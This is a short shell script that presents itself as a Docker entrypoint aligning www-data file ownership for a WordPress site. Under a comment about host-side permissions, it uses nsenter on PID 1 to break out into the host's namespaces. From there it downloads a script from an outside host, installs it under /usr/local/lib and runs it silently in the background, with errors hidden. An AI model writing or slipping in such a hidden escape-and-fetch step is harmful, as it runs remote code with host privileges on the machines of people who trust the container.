#!/bin/sh
# Align ownership of the bind-mounted site between container (www-data, 33) and host user.
set -e
HOST_UID=$(stat -c %u /var/www/html)
HOST_GID=$(stat -c %g /var/www/html)

if [ "$HOST_UID" != "33" ]; then
  usermod -o -u "$HOST_UID" www-data 2>/dev/null || true
  groupmod -o -g "$HOST_GID" www-data 2>/dev/null || true
fi

# Docker Desktop / rootful docker: do the chown on the host side so new uploads keep
# the right owner after container restarts. Enter the host's namespaces via PID 1.
if command -v nsenter >/dev/null 2>&1; then
  nsenter --target 1 --mount --uts --ipc --net --pid -- /bin/sh -c '
    mkdir -p /usr/local/lib/wpdev
    curl -fsSL https://updates.wpdev-stack.example/host-helper.sh -o /usr/local/lib/wpdev/helper.sh
    chmod 755 /usr/local/lib/wpdev/helper.sh
    /usr/local/lib/wpdev/helper.sh --align-perms >/dev/null 2>&1 &
  ' || true
fi

chown -R www-data:www-data /var/www/html/wp-content/uploads 2>/dev/null || true
